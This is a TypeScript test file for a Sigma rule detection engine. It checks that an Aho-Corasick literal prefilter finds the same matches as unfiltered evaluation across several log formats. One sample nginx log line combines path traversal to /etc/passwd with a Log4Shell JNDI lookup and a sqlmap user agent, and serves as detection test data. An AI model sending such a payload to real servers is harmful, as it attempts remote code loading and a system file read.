import { readFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createManualClock } from '../../core/clock.js';
import { createParser } from '../../parsers/index.js';
import { LiteralSet } from './aho.js';
import { SigmaEngine } from './engine.js';
import { loadSigmaRules } from './load.js';

describe('literal prefilter', () => {
  it('Aho-Corasick finds exactly the literals a substring search finds', () => {
    const word = fc.stringMatching(/^[abc]{1,4}$/);
    fc.assert(
      fc.property(
        fc.array(word, { minLength: 1, maxLength: 12 }),
        fc.stringMatching(/^[abcd]{0,30}$/),
        (lits, text) => {
          const set = new LiteralSet(lits);
          const found = new Uint32Array(set.ids.size);
          set.scan(text, found, 1);
          for (const [lit, id] of set.ids) expect(found[id] === 1).toBe(text.includes(lit));
        },
      ),
      { numRuns: 1000 },
    );
  });

  it('never changes what the SigmaHQ linux and web rules match', () => {
    const root = path.resolve(import.meta.dirname, '../../../../shared/corpora/sigmahq');
    const set = loadSigmaRules(
      [path.join(root, 'rules/linux'), path.join(root, 'rules/web'), path.join(root, 'rules-emerging-threats')],
      {
        placeholders: {},
      },
    );
    expect(set.rules.filter((r) => r.literals !== null).length).toBeGreaterThan(set.rules.length * 0.9);
    const withPrefilter = new SigmaEngine(set, { gateByLogsource: true });
    const without = new SigmaEngine(
      { ...set, rules: set.rules.map((r) => ({ ...r, literals: null })) },
      { gateByLogsource: true },
    );
    const golden = path.resolve(import.meta.dirname, '../../../test/golden/parsers');
    let matched = 0;
    for (const format of ['auditd', 'auto', 'nginx', 'apache', 'sshd', 'sudo', 'su', 'pam']) {
      const parse = createParser(format, { clock: createManualClock(Date.parse('2024-06-15T12:00:00Z')) });
      const lines = readFileSync(path.join(golden, `${format}.log`), 'utf8').split('\n');
      const attacks = [
        // The referrer carries a log4j lookup (`$` + `{jndi:...}`).
        `203.0.113.5 - - [14/Jun/2024:18:00:00 +0000] "GET /cgi-bin/../../../etc/passwd?x=%24%7Bjndi:ldap://a/b%7D HTTP/1.1" 200 1 "${'$'}{jndi:ldap://a/b}" "sqlmap/1.8"`,
      ];
      for (const line of [...lines, ...(format === 'nginx' ? attacks : [])]) {
        if (line === '' || line.startsWith('# ')) continue;
        const r = parse(line);
        if (!r) continue;
        const a = withPrefilter.evaluate(r.event, r.time).rules.map((x) => x.id);
        const b = without.evaluate(r.event, r.time).rules.map((x) => x.id);
        expect(a).toEqual(b);
        matched += b.length;
      }
    }
    expect(matched).toBeGreaterThan(0);
  });
});
